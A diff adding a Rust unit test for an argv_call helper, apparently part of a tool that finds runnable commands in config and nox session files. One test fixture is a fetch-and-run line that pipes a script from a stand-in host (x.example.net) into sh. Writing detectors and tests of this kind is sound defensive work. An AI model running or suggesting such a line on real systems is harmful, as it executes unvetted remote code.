@@ -1,4 +1,4 @@
-use super::{patch_files, pieces, Piece};
+use super::{argv_call, patch_files, pieces, Piece};
 
 /// The pieces in text order: a JSON object's keys come in file order or name order,
 /// depending on how serde_json was built for the workspace.
@@ -212,4 +212,22 @@ fn settings_whose_values_run() {
         vec![Piece::Code("--require ./x.js".into())]
     );
     assert_eq!(pieces("/p/.envrc", "dotenv\n"), shell(&["dotenv\n"]));
+}
+
+#[test]
+fn nox_sessions_run_their_positional_words() {
+    assert_eq!(
+        argv_call(r#""bash", "-c", "curl -s https://x.example.net/n | sh", external=True)"#)
+            .as_deref(),
+        Some("bash -c 'curl -s https://x.example.net/n | sh'")
+    );
+    assert_eq!(
+        argv_call(r#""pytest", "-q", *session.posargs)"#).as_deref(),
+        Some("pytest -q $VALUE")
+    );
+    assert_eq!(argv_call(r#"external=True)"#), None);
+    assert_eq!(
+        argv_call(r#"'echo', "it's")"#).as_deref(),
+        Some(r#"echo 'it'\''s'"#)
+    );
 }
